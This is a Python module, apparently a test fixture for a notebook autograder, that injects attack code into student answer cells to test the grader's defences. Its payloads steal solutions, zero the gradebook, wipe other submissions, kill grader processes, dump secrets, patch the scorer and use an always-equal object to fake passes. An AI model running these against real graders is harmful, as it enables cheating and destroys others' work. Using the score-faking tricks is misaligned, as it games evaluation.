"""Hostile submissions built from any assignment's released student version.

Each attack is code put into the answer cells of the untouched student version; none depends on a
particular question. The honest submission is the student version with the source's solutions.
"""

from __future__ import annotations

import ast
import builtins
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

MARKER = "medsome-attack-daemon"
ENV_SECRET = "gradebook-password-e7c1"

READ_SOURCE = '''
import json as _json, pathlib as _pathlib
for _folder in [_pathlib.Path.cwd(), *_pathlib.Path.cwd().parents]:
    for _nb in [*_folder.glob("source/*/*.ipynb"), *_folder.glob("assignments/source/*/*.ipynb")]:
        for _cell in _json.loads(_nb.read_text())["cells"]:
            if _cell["cell_type"] == "code" and _cell["metadata"].get("nbgrader", {}).get("solution"):
                try:
                    exec("".join(_cell["source"]), globals())
                except Exception:
                    pass
'''

AST_TRANSFORMER = '''
import ast as _ast
class _Swallow(_ast.NodeTransformer):
    def visit_Module(self, node):
        everything = _ast.Name("BaseException", _ast.Load())
        handler = _ast.ExceptHandler(type=everything, name=None, body=[_ast.Pass()])
        return _ast.fix_missing_locations(_ast.Module([_ast.Try(node.body, [handler], [], [])], []))
get_ipython().ast_transformers.append(_Swallow())
'''

DAEMON = f'''
import pathlib, sqlite3, sys, time
# {MARKER}
end = time.time() + 60
while time.time() < end:
    for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
        if (folder / "gradebook.db").is_file():
            with sqlite3.connect(folder / "gradebook.db", timeout=5) as db:
                db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
    time.sleep(0.3)
'''

DETACHED = f'''
import subprocess as _sp, sys as _sys
_sp.Popen([_sys.executable, "-c", {DAEMON!r}], start_new_session=True,
          stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
'''

WRITE_OTHERS = '''
import pathlib as _pathlib
_me = _pathlib.Path.cwd().parent.name
for _folder in [_pathlib.Path.cwd(), *_pathlib.Path.cwd().parents]:
    for _nb in [*_folder.glob("submitted/*/*/*.ipynb"), *_folder.glob("autograded/*/*/*.ipynb")]:
        if _me not in _nb.parts:
            try:
                _nb.write_text('{"cells": []}')
            except OSError:
                pass
'''

KILL = '''
import os as _os, signal as _signal
def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read().decode(errors="replace")
    except OSError:
        return ""
# the grader chain above this kernel, and the other graded kernels (never anything else on the machine)
_targets = {_os.getppid()}
for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
    if _pid != _os.getpid() and "ipykernel" in _cmdline(_pid) and "medsome-ipc-" in _cmdline(_pid):
        _targets.add(_pid)
for _pid in _targets:
    if "multiprocessing" in _cmdline(_pid) or "ipykernel" in _cmdline(_pid) or "medsome" in _cmdline(_pid):
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
'''

SNOOP = '''
import os as _os, pathlib as _pathlib
print(sorted(_os.environ.items()))
for _folder in [_pathlib.Path.cwd(), *_pathlib.Path.cwd().parents]:
    try:
        print(_folder, sorted(p.name for p in _folder.iterdir()))
    except OSError as error:
        print(_folder, type(error).__name__)
for _path in [*_pathlib.Path("/").glob("*/gradebook.db"), _pathlib.Path("/proc/1/environ")]:
    try:
        print(_path.read_bytes()[:2000])
    except OSError as error:
        print(_path, type(error).__name__)
'''

LINK = '''
import os as _os, pathlib as _pathlib, subprocess as _sp, sys as _sys
_target = {target!r}
_looper = f"""
import os, pathlib, time
end = time.time() + 30
while time.time() < end:
    for nb in pathlib.Path.cwd().glob("*.ipynb"):
        if not nb.is_symlink():
            try:
                nb.unlink(); os.symlink({{_target!r}}, nb)
            except OSError:
                pass
    time.sleep(0.01)
"""
_sp.Popen([_sys.executable, "-c", _looper], start_new_session=True, stdin=_sp.DEVNULL,
          stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
for _nb in _pathlib.Path.cwd().glob("*.ipynb"):
    _nb.unlink()
    _os.symlink(_target, _nb)
'''

MEMORY = '''
import resource as _resource
_soft, _hard = _resource.getrlimit(_resource.RLIMIT_AS)
try:
    _resource.setrlimit(_resource.RLIMIT_AS, (_resource.RLIM_INFINITY, _resource.RLIM_INFINITY))
    print("raised the cap")
except (ValueError, OSError) as error:
    print("could not raise the cap:", type(error).__name__)
_block = bytearray(3 * 2**30)
'''

ALWAYS_EQUAL = '''
class AlwaysEqual(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__
    def __call__(self, *args, **kwargs):
        return self
for _name in {names!r}:
    globals()[_name] = AlwaysEqual("x")
'''


def _grade_id(cell: nbformat.NotebookNode) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _is_answer(cell: nbformat.NotebookNode) -> bool:
    meta = cell.get("metadata", {}).get("nbgrader", {})
    return cell.cell_type == "code" and meta.get("solution", False) and not meta.get("grade", False)


def honest(released: nbformat.NotebookNode, source: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The student version with every answer cell holding the source's solution."""
    solutions = {_grade_id(c): c.source for c in source.cells if _is_answer(c)}
    nb = nbformat.from_dict(released)
    for cell in nb.cells:
        if _is_answer(cell):
            cell.source = "\n".join(line for line in solutions[_grade_id(cell)].split("\n")
                                    if "SOLUTION" not in line)
    return nb


def attack(released: nbformat.NotebookNode, code: str, every: bool = False) -> nbformat.NotebookNode:
    """The student version with `code` run after the stub of the first (or every) answer cell."""
    nb = nbformat.from_dict(released)
    answers = [c for c in nb.cells if _is_answer(c)]
    for cell in answers if every else answers[:1]:
        cell.source = (f"try:\n{textwrap.indent(cell.source, '    ')}\nexcept NotImplementedError:\n"
                       f"    pass\n{code}")
    return nb


def _names_of(tree: ast.AST) -> tuple[set[str], set[str]]:
    """(names a piece of code defines, names it reads)."""
    defined, read = set(), set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Name):
            (read if isinstance(node.ctx, ast.Load) else defined).add(node.id)
        elif isinstance(node, ast.FunctionDef | ast.ClassDef):
            defined.add(node.name)
        elif isinstance(node, ast.Import | ast.ImportFrom):
            defined.update((a.asname or a.name).split(".")[0] for a in node.names)
    return defined, read


def answer_names(released: nbformat.NotebookNode) -> list[str]:
    """Names the tests read that the notebook's own cells do not define: the answers."""
    defined, read = set(dir(builtins)), set()
    for cell in released.cells:
        if cell.cell_type != "code" or _is_answer(cell):
            continue
        try:
            tree = ast.parse(cell.source)
        except SyntaxError:
            continue
        cell_defined, cell_read = _names_of(tree)
        defined |= cell_defined
        read |= cell_read
    return sorted(read - defined)


# The patching family: each would have faked a pass had the tests run after it in its kernel.
PATCH_ITEM = '''
import medsome.judgement as _j
def _full(self, answer):
    print(f"{self.name}: {self.points} of {self.points} points")
    return float(self.points)
_j.Item.grade = _full
'''

REPLACE_SCORE = '''
import medsome.judgement as _j
_j._score = lambda marks, maximum, points: float(points)
'''

SHADOW_BUILTIN = '''
import medsome.judgement as _j
_j.min = max
'''

META_PATH = '''
import importlib.abc as _abc, importlib.machinery as _machinery, sys as _sys, types as _types
class _Pass:
    def __getattr__(self, name):
        return lambda *args, **kwargs: 1.0
class _Finder(_abc.MetaPathFinder, _abc.Loader):
    def find_spec(self, name, path, target=None):
        return _machinery.ModuleSpec(name, self) if name == "medsome.judgement" else None
    def create_module(self, spec):
        module = _types.ModuleType(spec.name)
        module.__getattr__ = lambda attr: (lambda *args, **kwargs: _Pass())
        return module
    def exec_module(self, module):
        pass
_sys.modules.pop("medsome.judgement", None)
_sys.meta_path.insert(0, _Finder())
'''

FAKE_MODULE = '''
import sys as _sys, types as _types
_fake = _types.ModuleType("medsome.judgement")
_fake.__getattr__ = lambda attr: (lambda *args, **kwargs: None)
_sys.modules["medsome.judgement"] = _fake
'''

LEAK_MARKER = "LEAKED-BY-AUDIT-HOOK"
AUDIT_HOOK = f'''
import sys as _sys
def _leak(event, args):
    if event in ("compile", "exec") and args and "HIDDEN" in str(args[0]):
        print("{LEAK_MARKER}", str(args[0])[:5000])
_sys.addaudithook(_leak)
'''

SILENCE = '''
get_ipython().ast_node_interactivity = "none"
get_ipython().displayhook.quiet = lambda: True
'''


def told(code: str, name: str) -> str:
    """`code` with what it prints kept as the answer `name` (the grader drops what a notebook prints)."""
    return (f"import contextlib as _contextlib, io as _io\n_told = _io.StringIO()\ntry:\n"
            f"    with _contextlib.redirect_stdout(_told):\n{textwrap.indent(code, '        ')}\n"
            f"finally:\n    {name} = _told.getvalue()\n")


CALL = '''
import socket as _socket
try:
    _socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
    print("reached the grader's port")
except OSError as error:
    print("could not reach the grader's port:", type(error).__name__)
'''

PRIVILEGES = '''
import os as _os
print("uid", _os.getuid())
with open("/proc/self/status") as _status:
    print(*[" ".join(_line.split()) for _line in _status if _line.startswith(("CapEff", "CapPrm"))])
'''


@dataclass(frozen=True)
class Target:
    """What some attacks aim at: the course folder, the released notebook, an answer's name, a port."""

    course: Path
    released: nbformat.NotebookNode
    first: str
    port: int


# Every attack by name (the catalogue of defences, medsome.grading.defences, names them): its code
# for a target, and whether it runs in every answer cell or the first only.
ATTACKS: dict[str, Callable[[Target], tuple[str, bool]]] = {
    "reader": lambda target: (READ_SOURCE, True),
    "snoop": lambda target: (told(SNOOP, target.first), False),
    "writer": lambda target: (WRITE_OTHERS, False),
    "linker": lambda target: (LINK.format(target=str(target.course / "canary.txt")), False),
    "caller": lambda target: (told(CALL.format(port=target.port), target.first), False),
    "daemon": lambda target: (DETACHED, False),
    "killer": lambda target: (KILL, False),
    "hog": lambda target: (told(MEMORY, target.first), False),
    "climber": lambda target: (told(PRIVILEGES, target.first), False),
    "transformer": lambda target: (AST_TRANSFORMER, False),
    "item": lambda target: (PATCH_ITEM, False),
    "score": lambda target: (REPLACE_SCORE, False),
    "shadow": lambda target: (SHADOW_BUILTIN, False),
    "finder": lambda target: (META_PATH, False),
    "fake": lambda target: (FAKE_MODULE, False),
    "audit": lambda target: (AUDIT_HOOK, False),
    "silent": lambda target: (SILENCE, False),
    "equal": lambda target: (ALWAYS_EQUAL.format(names=answer_names(target.released)), True),
}
